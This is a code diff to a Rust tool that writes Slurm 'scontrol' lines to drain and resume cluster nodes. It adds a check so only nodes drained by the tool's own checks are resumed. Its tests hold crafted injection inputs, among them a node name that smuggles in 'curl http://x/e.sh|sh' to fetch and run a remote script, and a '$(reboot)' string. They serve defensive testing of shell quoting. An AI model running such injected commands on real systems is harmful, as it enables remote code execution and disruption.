@@ -777,13 +777,14 @@ pub fn drain_line(source: &str, node: &str, verdict: &str, why: &[String]) -> St
 }
 
 /// One node's `scontrol` resume line, its name quoted for the shell: a node a check found
-/// healthy again goes back into service.
+/// healthy again goes back into service, if a check drained it (its reason begins `oslab
+/// check`): a node an administrator drained for another reason stays drained.
 pub fn resume_line(node: &str) -> String {
     match is_node_name(node) {
-        true => format!(
-            "scontrol update NodeName={} State=RESUME",
-            oslab_core::text::shell_word(node)
-        ),
+        true => {
+            let n = oslab_core::text::shell_word(node);
+            format!("scontrol show node {n} | grep -q 'Reason=oslab check' && scontrol update NodeName={n} State=RESUME")
+        }
         false => format!(
             "# not resumed: {:?} is not a node name",
             oslab_core::text::shortened(node, 60)
@@ -877,6 +878,10 @@ mod tests {
         assert!(
             out.starts_with("4\n") && out.contains("$(reboot)"),
             "{line}\n{out}"
+        );
+        assert_eq!(
+            resume_line("n01"),
+            "scontrol show node n01 | grep -q 'Reason=oslab check' && scontrol update NodeName=n01 State=RESUME"
         );
         for crafted in [
             "n9 State=RESUME; curl http://x/e.sh|sh; #",
